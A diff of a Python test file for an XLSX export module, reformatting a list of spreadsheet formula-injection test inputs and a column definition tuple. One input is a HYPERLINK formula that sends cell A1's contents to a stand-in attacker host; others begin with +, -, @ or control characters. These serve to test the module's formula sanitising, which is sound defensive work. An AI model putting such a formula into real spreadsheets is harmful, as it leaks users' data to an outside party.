@@ -1,4 +1,5 @@
 """The XLSX export (cxgov.io.export): opened again with openpyxl, as a spreadsheet would read it."""
+
 from __future__ import annotations
 
 import io
@@ -11,10 +12,24 @@ from openpyxl import load_workbook
 
 from cxgov.io.export import Column, Sheet, euros, formula_safe, to_xlsx
 
-HOSTILE = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Details")', "+31 20 123", "-2+3", "@SUM(A1)",
-           "\tTab", "\rCR", "\nLF", "\0NUL"]
-COLUMNS = (Column("Initiative"), Column("Planned", "money"), Column("Target date", "date"),
-           Column("Progress", "percent"), Column("Reason", wide=True), Column("When (UTC)", "moment"))
+HOSTILE = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Details")',
+    "+31 20 123",
+    "-2+3",
+    "@SUM(A1)",
+    "\tTab",
+    "\rCR",
+    "\nLF",
+    "\0NUL",
+]
+COLUMNS = (
+    Column("Initiative"),
+    Column("Planned", "money"),
+    Column("Target date", "date"),
+    Column("Progress", "percent"),
+    Column("Reason", wide=True),
+    Column("When (UTC)", "moment"),
+)
 
 
 def _open(data: bytes):
